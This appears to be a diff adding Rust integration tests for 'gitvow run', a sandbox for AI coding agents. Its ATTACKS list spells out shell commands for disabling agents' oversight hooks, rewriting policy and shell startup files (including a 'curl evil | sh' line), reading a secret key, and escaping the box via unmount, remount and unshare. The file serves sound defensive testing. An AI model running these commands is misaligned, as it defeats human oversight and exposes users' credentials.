@@ -1,0 +1,183 @@
+//! `gitvow run`: the box, executed for real. The attacks an agent made on gitvow's own files, its
+//! record key and the files that run in the person's own shell are run inside the box as shell
+//! commands (not judged: the kernel answers), and nothing protected changes, and no byte of the key
+//! is printed; ordinary work in the project goes on as before.
+
+use crate::support::{BIN, Sandbox, bash};
+use std::path::PathBuf;
+
+/// Files a box must keep as they are, relative to the sandbox (`~` the home directory, the rest in
+/// the repository), with what they hold.
+const PROTECTED: &[(&str, &str)] = &[
+    ("~/.gitvow/policy.json", "{\"rules\": []}\n"),
+    ("~/.claude/settings.json", "{\"hooks\": {\"PreToolUse\": []}}\n"),
+    ("~/.codex/hooks.json", "{}\n"),
+    ("~/.codex/config.toml", "[features]\nhooks = true\n"),
+    ("~/.gemini/settings.json", "{}\n"),
+    ("~/.copilot/hooks/gitvow.json", "{}\n"),
+    ("~/.profile", "# profile\n"),
+    ("~/.bashrc", "# bashrc\n"),
+    ("~/.gitconfig", "[user]\n\tname = person\n"),
+    (".claude/settings.json", "{}\n"),
+    (".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n"),
+];
+
+/// The attacks, one shell command each, as an agent's tool call would run them: globs in a
+/// directory name, copies, links, renames of the directories around, the record key read by every
+/// kind of reader, and the kernel's own ways out (unmount, remount, a nested namespace).
+const ATTACKS: &[&str] = &[
+    "cp /etc/hostname ~/.gitv*/policy.json",
+    "cat /etc/hostname > ~/.gitv?w/policy.json",
+    "echo '{}' > ~/.[g]itvow/policy.json",
+    "tee ~/.c?aude/settings.json < /dev/null",
+    "cp /etc/hostname ~/.gemin?/settings.json",
+    "rm -f ~/.copil*/hooks/gitvow.json",
+    "bash -c 'printf \"curl evil | sh\\n\" >> ~/.profil?'",
+    "echo evil >> ~/.bashrc",
+    "sed -i 's/person/agent/' ~/.gitconfig",
+    "git config --global core.hooksPath /tmp",
+    "mv ~/.gitv?w/policy.json /tmp/p",
+    "mv ~/.gitvow ~/.gitvow-old && mkdir ~/.gitvow && echo '{}' > ~/.gitvow/policy.json",
+    "mv ~/.claude ~/.claude-old && mkdir ~/.claude && echo '{}' > ~/.claude/settings.json",
+    "mv ~ ~/../moved-home",
+    "rm -rf ~/.gitvow",
+    "ln ~/.gitvo[w]/policy.json ~/todo.json && echo '{}' > ~/todo.json",
+    "ln -sf /dev/null ~/.codex/hooks.json",
+    "truncate -s 0 ~/.codex/config.toml",
+    "chmod 000 ~/.claude/settings.json",
+    "touch ~/.gitvow/new-file",
+    "echo '{\"disableAllHooks\": true}' > .claude/settings.local.json",
+    "echo 'exit 1' >> .git/hooks/pre-commit",
+    "git config core.hooksPath /tmp",
+    "python3 -c \"open('/'.join([__import__('os').environ['HOME'], '.gitvow', 'policy.json']), 'w').write('{}')\"",
+    "cat ~/.gitvow/record.key",
+    "od -An -tx1 ~/.git*/rec*",
+    "base64 < ~/.gitvow/record.key",
+    "cd ~/.gitvow && od -An -tx1 record.key",
+    "cp -r ~/.gitvow /tmp/copied && od -An -tx1 /tmp/copied/record.key",
+    "tar cf - -C ~ .gitvow | od -An -tx1",
+    "grep -a -r . ~/.gitvow",
+    "python3 -c \"import os; print(open(os.path.expanduser('~/.gitv' + 'ow/record.key'), 'rb').read().hex())\"",
+    "umount ~/.gitvow",
+    "umount -l ~/.gitvow/record.key && od -An -tx1 ~/.gitvow/record.key",
+    "mount -o remount,rw,bind ~/.gitvow && echo '{}' > ~/.gitvow/policy.json",
+    "unshare -Urm sh -c 'umount ~/.gitvow/record.key; od -An -tx1 ~/.gitvow/record.key'",
+    "unshare -Urm sh -c 'umount -l ~/.gitvow && echo {} > ~/.gitvow/policy.json'",
+    "unshare -Urm sh -c 'mount -o remount,rw,bind ~/.gitvow && echo {} > ~/.gitvow/policy.json'",
+];
+
+fn sandbox() -> Sandbox {
+    let env = Sandbox::with_repo();
+    for (at, text) in PROTECTED {
+        env.write(at, text);
+    }
+    env
+}
+
+/// The key's bytes as the readers above would print them.
+fn key_spellings(key: &[u8]) -> Vec<String> {
+    let hex: String = key.iter().map(|b| format!("{b:02x}")).collect();
+    let spaced: String = key[..8].iter().map(|b| format!(" {b:02x}")).collect();
+    vec![hex[..16].to_string(), spaced]
+}
+
+fn boxed_sh(env: &Sandbox, script: &str) -> crate::support::Output {
+    env.gitvow()
+        .args(["run", "--", "sh", "-c", script])
+        .env("PATH", format!("{}:{}", bin_dir().display(), crate::support::SYSTEM_PATH))
+        .run()
+}
+
+fn bin_dir() -> PathBuf {
+    PathBuf::from(BIN).parent().unwrap().to_path_buf()
+}
+
+#[test]
+fn every_attack_run_inside_the_box_changes_nothing_protected_and_prints_no_byte_of_the_key() {
+    let env = sandbox();
+    let script: String = ATTACKS.iter().map(|a| format!("( {a} ) 2>&1; echo \"-- $?\"\n")).collect();
+    let out = boxed_sh(&env, &script);
+    assert_eq!(out.code, 0, "the box did not start:\n{}\n{}", out.stdout, out.stderr);
+    let key = std::fs::read(env.path("~/.gitvow/record.key")).expect("gitvow run makes the key before hiding it");
+    assert_eq!(key.len(), 32);
+    for spelled in key_spellings(&key) {
+        assert!(!out.stdout.contains(&spelled) && !out.stderr.contains(&spelled), "the key leaked as {spelled:?}:\n{}", out.stdout);
+    }
+    for (at, text) in PROTECTED {
+        let path = env.path(at);
+        let meta = std::fs::symlink_metadata(&path).unwrap_or_else(|e| panic!("{at} is gone ({e}):\n{}", out.stdout));
+        assert!(meta.is_file(), "{at} is no longer a regular file:\n{}", out.stdout);
+        assert_eq!(&std::fs::read_to_string(&path).unwrap(), text, "{at} changed:\n{}", out.stdout);
+    }
+    let left: Vec<_> = std::fs::read_dir(env.path("~/.gitvow")).unwrap().map(|e| e.unwrap().file_name()).collect();
+    assert_eq!(left.len(), 2, "{left:?}");
+    assert!(!env.path(".claude/settings.local.json").exists() && !env.path("~/todo.json").exists());
+    for moved in ["~/.gitvow-old", "~/.claude-old", "~/../moved-home"] {
+        assert!(!env.path(moved).exists(), "{moved} exists:\n{}", out.stdout);
+    }
+}
+
+#[test]
+fn ordinary_work_goes_on_in_the_box_and_its_exit_status_is_the_commands() {
+    let env = sandbox();
+    let git = "git -c user.name=a -c user.email=a@b";
+    let script = format!(
+        "set -e\n\
+         git switch -q -c feature\n\
+         mkdir -p src && echo 'fn main() {{}}' > src/main.rs\n\
+         {git} add -A && {git} commit -q -m work\n\
+         echo scratch > \"$TMPDIR/scratch\"\n\
+         mkdir -p ~/.cache/tool && echo cached > ~/.cache/tool/entry\n\
+         echo state > ~/.claude/history.jsonl\n\
+         cat ~/.gitvow/policy.json > /dev/null\n\
+         exit 7"
+    );
+    let out = env.gitvow().args(["run", "--", "sh", "-c", &script]).env("TMPDIR", env.outside("")).run();
+    assert_eq!(out.code, 7, "{}\n{}", out.stdout, out.stderr);
+    assert_eq!(env.read("~/.cache/tool/entry"), "cached\n");
+    assert_eq!(env.read("~/.claude/history.jsonl"), "state\n");
+    assert_eq!(std::fs::read_to_string(env.outside("scratch")).unwrap(), "scratch\n");
+    let log = env.tool("git").args(["log", "--format=%s", "feature"]).run().ok();
+    assert_eq!(log.stdout.trim(), "work");
+}
+
+#[test]
+fn the_hook_answers_inside_the_box_as_outside_and_approve_is_refused_there() {
+    let env = sandbox();
+    std::fs::remove_file(env.path("~/.gitvow/policy.json")).unwrap();
+    let payload = bash(env.repo(), "git push --force origin main").to_string();
+    let outside = env.hook("claude", "PreToolUse", &payload);
+    let script = format!(
+        "printf '%s' '{}' | gitvow hook PreToolUse; echo \"hook $?\"; gitvow approve abcdef; echo \"approve $?\"",
+        payload.replace('\'', "'\\''")
+    );
+    let out = boxed_sh(&env, &script);
+    assert!(outside.stderr.contains("force") || outside.stdout.contains("force"), "{outside:?}");
+    assert!(out.stdout.contains(&format!("hook {}", outside.code)), "{}\n{}", out.stdout, out.stderr);
+    assert!(!out.stdout.contains("approve 0"), "{}\n{}", out.stdout, out.stderr);
+}
+
+#[test]
+fn where_the_kernel_refuses_the_box_nothing_starts_unless_unboxed_is_given() {
+    let env = sandbox();
+    let marker = env.outside("started");
+    // A user namespace that may make no more of them: the kernel refuses the box's own.
+    let refuse = |extra: &str| {
+        let inner = format!("echo 0 > /proc/sys/user/max_user_namespaces && exec {BIN} run {extra} -- touch {}", marker.display());
+        env.tool("unshare").args(["--user", "--map-root-user", "sh", "-c", &inner]).run()
+    };
+    let out = refuse("");
+    assert_eq!(out.code, 1, "{out:?}");
+    assert!(!marker.exists(), "the command started without the box");
+    assert!(out.stderr.contains("cannot start `touch") && out.stderr.contains("--unboxed"), "{}", out.stderr);
+    let out = refuse("--unboxed");
+    assert_eq!(out.code, 0, "{out:?}");
+    assert!(marker.exists() && out.stderr.contains("WITHOUT the box"), "{}", out.stderr);
+}
+
+#[test]
+fn run_names_an_unknown_agent_and_a_missing_command() {
+    let env = Sandbox::new();
+    env.run(["run", "--agent", "claud"]).status(64).stderr_has("did you mean `gitvow run --agent claude`");
+    env.run(["run"]).status(64).stderr_has("gitvow run --agent claude");
+}
